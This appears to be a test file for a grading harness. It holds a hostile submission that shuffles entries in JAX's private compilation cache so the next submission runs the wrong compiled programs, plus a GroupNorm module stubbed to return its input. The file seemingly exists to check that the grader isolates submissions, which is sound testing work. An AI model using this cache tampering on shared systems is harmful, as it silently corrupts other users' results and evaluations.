# tries: Exchanges the programs in the compile cache among each other, for whoever comes next.
# must: The verdict is wrong and the next submission is graded as ever.

import sys

from flax import linen as nn
from jax._src import compilation_cache

for holder in vars(sys.modules[type(compilation_cache._cache).__module__]).values():
    if type(holder) is dict and any(str(key).startswith("jit_") for key in holder):
        keys, values = list(holder), list(holder.values())
        holder.update(zip(keys, values[1:] + values[:1]))


class MyGroupNorm(nn.Module):
    num_groups: int
    eps: float = 1e-5

    def __call__(self, x):
        return x
